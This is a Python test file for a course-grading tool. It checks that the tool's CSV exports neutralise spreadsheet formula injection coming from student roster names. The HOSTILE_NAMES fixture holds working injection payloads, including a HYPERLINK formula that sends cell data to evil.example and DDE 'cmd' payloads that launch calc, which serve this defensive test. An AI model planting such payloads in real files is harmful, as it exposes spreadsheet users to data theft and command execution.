"""A roster name (text from outside) that becomes a formula in the instructor's spreadsheet.

Our CSVs are read by spreadsheets that split them differently from how we wrote them: a European locale splits
on `;`, a paste into a sheet on tabs, a careless import on lines, and some ignore quotes. Every CSV we write quotes
every field, and wherever any of those splits could start a cell, no cell starts with a formula character
(= + - @ tab, carriage return; after any spaces and quotes) unless it is a plain number."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from course.cli import main
from course.term.gradebook import GradeRow, write_course_totals, write_grades_csv
from tests.support.helpers import ROOT

HOSTILE_NAMES = [
    'Smith;=HYPERLINK("http://evil.example/?"&A1;"x")',  # `;` as the list separator: "=HYPERLINK(..." is a cell
    "Doe;-2+3+cmd|' /C calc'!A0",
    "Tab\t@SUM(1+1)*cmd|' /C calc'!A0",
    'Quote;"=1+1"',
    "Space; +1+1",
    "Line\n=1+1",
    "Return\r=1+1",
    "Comma, =1+1",
]
SECTION = "Autograd;=1+1"
FORMULA_START = tuple("=+-@\t\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def cells_a_spreadsheet_might_see(text: str) -> list[str]:
    """Every cell of `text` as a spreadsheet might split it: a CSV reader on , ; or tab, and a reader that ignores
    quotes and splits on any separator or line; each with spaces and double quotes around it dropped."""
    seen = []
    for delimiter in ",;\t":
        seen += [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    seen += re.split(r"[,;\t\r\n]", text)
    return [cell.lstrip(' "') for cell in seen]


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for cell in cells_a_spreadsheet_might_see(text)
        if cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell.rstrip(' "'))
    ]


def every_field_quoted(text: str) -> bool:
    rows = list(csv.reader(io.StringIO(text, newline="")))
    again = io.StringIO()
    csv.writer(again, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)
    return again.getvalue() == text


@pytest.fixture
def hostile_course(course_root):
    students = [f"s{index}" for index in range(len(HOSTILE_NAMES))]
    write_grades_csv(
        course_root / "grades-autograd.csv",
        ("slopes",),
        [GradeRow(student, {"slopes": 3}, 44.6, 57, "graded", late_penalty=-1.5) for student in students],
    )
    with (course_root / "roster.csv").open("w", newline="", encoding="utf-8") as stream:
        writer = csv.writer(stream)
        writer.writerow(["student_id", "name", "lms_id", "section", "email"])
        for index, (student, name) in enumerate(zip(students, HOSTILE_NAMES, strict=True)):
            writer.writerow([student, name, f"{1000 + index}", SECTION, f"{student}@example.edu"])
    return course_root


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_lms_exports_hold_no_formula_however_a_spreadsheet_splits_them(hostile_course, fmt):
    assert (
        main(
            ["--course", str(hostile_course), "export", "--format", fmt, "--roster", str(hostile_course / "roster.csv")]
        )
        == 0
    )
    text = (hostile_course / f"{fmt}-autograd.csv").read_text(encoding="utf-8")
    assert formula_cells(text) == []
    assert every_field_quoted(text)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    names = [row[0 if fmt == "canvas" else 1] for row in rows[2 if fmt == "canvas" else 1 :]]
    # the names are all there, each still readable as what the roster said (an apostrophe before a formula start;
    # the roster's reader reads a lone carriage return as a line break)
    assert [name.replace("'", "") for name in names] == [
        name.replace("'", "").replace("\r", "\n") for name in HOSTILE_NAMES
    ]
    assert {row[-1] for row in rows[2 if fmt == "canvas" else 1 :]} == {"44.6"}  # numbers stay numbers


def test_grades_and_totals_csv_quote_every_field_and_keep_numbers(hostile_course):
    totals = write_course_totals(hostile_course, ("autograd",))
    for path in (hostile_course / "grades-autograd.csv", totals):
        text = path.read_text(encoding="utf-8")
        assert every_field_quoted(text), path.name
        assert formula_cells(text) == [], path.name
    rows = list(csv.DictReader(io.StringIO((hostile_course / "grades-autograd.csv").read_text(), newline="")))
    assert {row["late_penalty"] for row in rows} == {"-1.5"}  # a negative number is left a number
    # written again from what it read back, the CSV is unchanged (the neutralising does not pile up)
    before = (hostile_course / "grades-autograd.csv").read_text()
    write_grades_csv(hostile_course / "grades-autograd.csv", ("slopes",), [])
    assert (hostile_course / "grades-autograd.csv").read_text() == before


def test_every_csv_the_package_writes_goes_through_the_one_writer():
    """csv.writer and DictWriter appear only in course/core/text.py (csv_text): a new CSV cannot forget the rule."""
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(")
    found = [
        str(path.relative_to(ROOT))
        for path in sorted((ROOT / "course").rglob("*.py"))
        if writers.search(path.read_text(encoding="utf-8")) and path != ROOT / "course" / "core" / "text.py"
    ]
    assert found == []
    assert writers.search((ROOT / "course" / "core" / "text.py").read_text(encoding="utf-8"))


def test_the_tokens_csv_is_written_by_the_one_writer_too(course_root):
    roster = course_root / "roster.csv"
    roster.write_text("student_id,name\nalice,Alice\n", encoding="utf-8")
    assert (
        main(["--course", str(course_root), "serve", "tokens", str(roster), "--out", str(course_root / "tokens.csv")])
        == 0
    )
    text = Path(course_root / "tokens.csv").read_text(encoding="utf-8")
    assert every_field_quoted(text)
    assert text.startswith('"student_id","token","new"\n"alice","')
